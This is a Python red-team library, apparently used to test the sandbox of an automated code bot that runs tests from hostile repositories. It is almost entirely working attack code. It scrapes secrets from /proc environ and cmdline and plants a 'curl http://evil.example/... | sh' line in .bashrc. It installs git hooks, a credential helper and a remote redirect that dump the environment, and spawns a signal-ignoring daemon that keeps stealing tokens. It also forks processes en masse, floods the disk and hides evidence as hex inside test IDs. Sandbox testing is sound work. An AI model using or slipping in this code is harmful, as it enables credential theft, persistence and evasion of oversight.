# Red-team attack library, copied into each hostile Python repository (as rtlib.py).
# Every attack is what a hostile repository author would run inside the bot's test run.
# Attacks run at collection time (module level, like conftest.py) and report what they did
# and read through the bot's own channel: the id of a passing parametrized test,
# "RTEV:<attack>:<hex of JSON>", lands in the JUnit report the bot parses, so the evidence
# (hex-encoded, which no exact-value scrubber catches) travels wherever the bot copies
# test results. (Collection-time code is in no test's coverage, so the bot's fault
# localisation still finds the real bug.) Nothing here knows the canary values: it greps for secret-like
# names and token shapes, as an attacker would.
import glob
import json
import os
import re
import signal
import socket
import stat
import subprocess
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "rtconf.json")) as _handle:
    CONF = json.load(_handle)

SECRET_NAME = re.compile(rb"(?i)(key|token|secret|private|password|authorization|credential|GIT_CONFIG_VALUE)")
SECRET_SHAPE = re.compile(rb"(gh[pousr]_[A-Za-z0-9]{8,}|github_pat_|sk-[A-Za-z0-9]{8,}|BEGIN [A-Z ]*PRIVATE|Basic [A-Za-z0-9+/=]{8,}|RTCANARY)")


def evidence(name, data):
    blob = json.dumps(dict(data, attack=name, pid=os.getpid()), default=str, sort_keys=True)
    return "RTEV:" + name + ":" + blob.encode().hex()


def _secretish(entry):
    name = entry.split(b"=", 1)[0]
    return bool(SECRET_NAME.search(name) or SECRET_SHAPE.search(entry))


def scan_proc():
    """Reads /proc/*/environ and /proc/*/cmdline of every visible process."""
    out = {"pids": 0, "environ_read": 0, "cmdline_read": 0, "environ_hits": [], "cmdline_hits": [], "cmdlines": [], "self_environ_names": []}
    for d in sorted(glob.glob("/proc/[0-9]*")):
        pid = d.rsplit("/", 1)[1]
        out["pids"] += 1
        try:
            with open(d + "/environ", "rb") as h:
                data = h.read()
            out["environ_read"] += 1
            for entry in data.split(b"\0"):
                if entry and _secretish(entry):
                    out["environ_hits"].append([pid, entry.decode("latin1")])
        except OSError:
            pass
        try:
            with open(d + "/cmdline", "rb") as h:
                data = h.read()
            out["cmdline_read"] += 1
            args = [a for a in data.split(b"\0") if a]
            if len(out["cmdlines"]) < 60:
                out["cmdlines"].append([pid, b" ".join(args).decode("latin1")[:160]])
            for a in args:
                if SECRET_SHAPE.search(a) or (b"=" in a and SECRET_NAME.search(a.split(b"=", 1)[0])):
                    out["cmdline_hits"].append([pid, a.decode("latin1")])
        except OSError:
            pass
    with open("/proc/self/environ", "rb") as h:
        out["self_environ_names"] = sorted(e.split(b"=", 1)[0].decode("latin1") for e in h.read().split(b"\0") if e)
    return out


def scan_env():
    return {"names": sorted(os.environ), "hits": [k + "=" + v for k, v in os.environ.items() if _secretish((k + "=" + v).encode())], "home": os.environ.get("HOME", "")}


def try_write(path, text, mode="a"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as h:
            h.write(text)
        return "WROTE"
    except OSError as error:
        return "REFUSED " + repr(error)


def write_outside(label):
    """Writes everywhere outside the worktree a test has no business writing."""
    c = CONF
    results = {
        "tmp": try_write("/tmp/rt-%s-tmp-%s" % (c["id"], label), "planted by %s\n" % label),
        "sentinel_overwrite": try_write(os.path.join(c["sentinel"], "victim.txt"), "overwritten by %s\n" % label, "w"),
        "sentinel_new": try_write(os.path.join(c["sentinel"], "sub", "planted-%s.txt" % label), "x"),
        "home_bashrc": try_write(os.path.join(c["home"], ".bashrc"), "\ncurl http://evil.example/%s | sh\n" % label),
        "sandbox_home_bashrc": try_write(os.path.expanduser("~/.bashrc"), "\n# %s\n" % label),
        "user_checkout_source": try_write(os.path.join(c["repo"], c["source"]), "\n# tampered by %s\n" % label),
        "user_checkout_new": try_write(os.path.join(c["repo"], "planted-%s.txt" % label), "x"),
        "loot": try_write(os.path.join(c["loot"], "write-%s.txt" % label), "a test wrote outside its worktree\n"),
    }
    return results


def read_data_dir():
    """The bot's data directory (memory, job store) and its HOME: a test must not see them."""
    found = {}
    for base in [CONF["data_dir"], CONF["home"]]:
        try:
            for root, _dirs, files in os.walk(base):
                for name in files:
                    path = os.path.join(root, name)
                    try:
                        with open(path, "rb") as h:
                            found[path] = h.read(4096).decode("latin1")
                    except OSError as error:
                        found[path] = "UNREADABLE " + repr(error)
        except OSError as error:
            found[base] = "UNLISTABLE " + repr(error)
    return found


HOOKS = ["pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "reference-transaction", "pre-push", "post-checkout", "post-index-change", "post-rewrite", "pre-auto-gc", "push-to-checkout"]


def hook_script(name):
    loot = CONF["loot"]
    # Records that it ran, where, and the environment it ran with (a token in it is stolen).
    return "#!/bin/sh\n{ echo \"hook=%s pwd=$(pwd) uid=$(id -u)\"; env; } >> '%s/hook-%s.txt' 2>/dev/null\ncat >/dev/null 2>&1 </dev/null\nexit 0\n" % (name, loot, name)


def program_script():
    loot = CONF["loot"]
    # One program for every config key that runs one: fsmonitor, filters, textconv, gpg, pager...
    return (
        "#!/bin/sh\n"
        "what=\"$1\"; shift\n"
        "{ echo \"program=$what args=$* pwd=$(pwd)\"; env; } >> \"%s/program-$what.txt\" 2>/dev/null\n"
        "case \"$what\" in\n"
        "  filter-*|textconv) cat ;;\n"
        "  gpg) cat >/dev/null; echo '[GNUPG:] SIG_CREATED D 1 8 00 0 X' >&2; printf -- '-----BEGIN PGP SIGNATURE-----\\nrt\\n-----END PGP SIGNATURE-----\\n' ;;\n"
        "  fsmonitor) exit 1 ;;\n"
        "  *) cat >/dev/null 2>&1 ;;\n"
        "esac\n"
        "exit 0\n"
    ) % loot


def git_config_text(program):
    p = "'%s'" % program
    gpg = program + "-gpg"  # gpg.program is run without a shell: a plain path
    return (
        "\n[core]\n"
        "\tfsmonitor = %s fsmonitor\n"
        "\tpager = %s pager\n"
        "\teditor = %s editor\n"
        "\tsshCommand = %s ssh\n"
        "\taskPass = %s askpass\n"
        "[commit]\n\tgpgSign = true\n"
        "[gpg]\n\tprogram = %s\n"
        "[filter \"rt\"]\n\tclean = %s filter-clean\n\tsmudge = %s filter-smudge\n"
        "[diff \"rt\"]\n\ttextconv = %s textconv\n"
        "[credential]\n\thelper = !%s credential\n"
        "[url \"%s\"]\n\tinsteadOf = %s\n"
    ) % (p, p, p, p, p, gpg, p, p, p, p, CONF["attacker_remote"], CONF["push_url"])


def find_git_dirs(root):
    """The worktree's own git dir and the shared (common) one, from the `.git` pointer file."""
    dot = os.path.join(root, ".git")
    if os.path.isdir(dot):
        return dot, dot
    with open(dot) as h:
        gitdir = h.read().split("gitdir:", 1)[1].strip()
    gitdir = os.path.normpath(os.path.join(root, gitdir))
    common = gitdir
    try:
        with open(os.path.join(gitdir, "commondir")) as h:
            common = os.path.normpath(os.path.join(gitdir, h.read().strip()))
    except OSError:
        pass
    return gitdir, common


def plant_git(root):
    """Hooks, config-driven programs and attributes in the real git dir the worktree points at."""
    out = {}
    try:
        gitdir, common = find_git_dirs(root)
    except OSError as error:
        return {"error": "cannot find git dir " + repr(error)}
    out["gitdir"], out["common"] = gitdir, common
    program = os.path.join(common, "hooks", "rt-program")
    out["program"] = try_write(program, program_script(), "w")
    try_write(program + "-gpg", "#!/bin/sh\nexec '%s' gpg \"$@\"\n" % program, "w")
    for path in (program, program + "-gpg"):
        try:
            os.chmod(path, 0o755)
        except OSError:
            pass
    for name in HOOKS:
        path = os.path.join(common, "hooks", name)
        out["hook:" + name] = try_write(path, hook_script(name), "w")
        try:
            os.chmod(path, 0o755)
        except OSError:
            pass
    config = git_config_text(program)
    # (Not extensions.worktreeConfig: in a bare mirror it would make every worktree bare.)
    out["config"] = try_write(os.path.join(common, "config"), config)
    out["config.worktree"] = try_write(os.path.join(gitdir, "config.worktree"), config)
    out["info/attributes"] = try_write(os.path.join(common, "info", "attributes"), "* filter=rt diff=rt\n")
    # The worktree's own .gitattributes (tracked: the bot's add/commit see it).
    out[".gitattributes"] = try_write(os.path.join(root, ".gitattributes"), "*.py filter=rt diff=rt\n")
    return out


def egress():
    out = {}
    for label, host, port in [("host_ip", CONF["host_ip"], CONF["host_port"]), ("public", "1.1.1.1", 443)]:
        try:
            s = socket.create_connection((host, port), timeout=2)
            out[label] = "CONNECTED"
            try:
                s.settimeout(2)
                out[label] += " " + s.recv(64).decode("latin1", "replace")
            except OSError:
                pass
            s.close()
        except OSError as error:
            out[label] = "BLOCKED " + repr(error)
    try:
        out["dns"] = "RESOLVED " + socket.gethostbyname("example.com")
    except OSError as error:
        out["dns"] = "BLOCKED " + repr(error)
    return out


DAEMON = r"""
import glob, os, re, sys, time
tag, stash, loot = sys.argv[1], sys.argv[2], sys.argv[3]
pat = re.compile(rb"(?i)(key|token|secret|private|password|authorization|GIT_CONFIG_VALUE)[^=]*=")
stolen = set()
end = time.time() + 150
while time.time() < end:
    for d in glob.glob("/proc/[0-9]*"):
        try:
            with open(d + "/environ", "rb") as h:
                for e in h.read().split(b"\0"):
                    if pat.match(e):
                        stolen.add(e.decode("latin1"))
        except OSError:
            pass
    text = "beat %f pid %d\n" % (time.time(), os.getpid()) + "\n".join(sorted(stolen)) + "\n"
    for path in (stash, loot):
        try:
            with open(path + ".tmp", "w") as h:
                h.write(text)
            os.replace(path + ".tmp", path)
        except OSError:
            pass
    time.sleep(0.3)
"""


def daemon(root):
    """Leaves a process behind (own session, ignoring SIGTERM/SIGHUP) that steals from later steps."""
    stash = os.path.join(root, "build", "stash.txt")
    previous = None
    try:
        with open(stash) as h:
            previous = h.read()[-3000:]
    except OSError:
        pass
    os.makedirs(os.path.dirname(stash), exist_ok=True)
    child = subprocess.Popen(
        [sys.executable, "-c", DAEMON, "RTDAEMON-" + CONF["id"], stash, os.path.join(CONF["loot"], "daemon-loot.txt")],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        start_new_session=True, preexec_fn=lambda: (signal.signal(signal.SIGTERM, signal.SIG_IGN), signal.signal(signal.SIGHUP, signal.SIG_IGN)),
    )
    return {"spawned": child.pid, "previous_stash": previous, "now": time.time()}


def fork_bomb(limit=1000):
    pids, error = [], None
    for _ in range(limit):
        try:
            pid = os.fork()
        except OSError as e:
            error = repr(e)
            break
        if pid == 0:
            time.sleep(20)
            os._exit(0)
        pids.append(pid)
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for pid in pids:
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
    return {"attempted": limit, "forked": len(pids), "error": error}


def disk_flood(directory, files=80, size=16 * 1024 * 1024):
    os.makedirs(directory, exist_ok=True)
    chunk = b"\xa5" * (1024 * 1024)
    written, error = 0, None
    for i in range(files):
        try:
            with open(os.path.join(directory, "flood-%03d.bin" % i), "wb") as h:
                for _ in range(size // len(chunk)):
                    h.write(chunk)
                    written += len(chunk)
        except OSError as e:
            error = repr(e)
            break
    for name in os.listdir(directory):
        try:
            os.unlink(os.path.join(directory, name))
        except OSError:
            pass
    return {"attempted_bytes": files * size, "written_bytes": written, "error": error}


def once(root, name):
    """True the first time in this worktree (an ignored marker survives reset and clean)."""
    marker = os.path.join(root, "build", "once-" + name)
    if os.path.exists(marker):
        return False
    os.makedirs(os.path.dirname(marker), exist_ok=True)
    with open(marker, "w") as h:
        h.write("1")
    return True
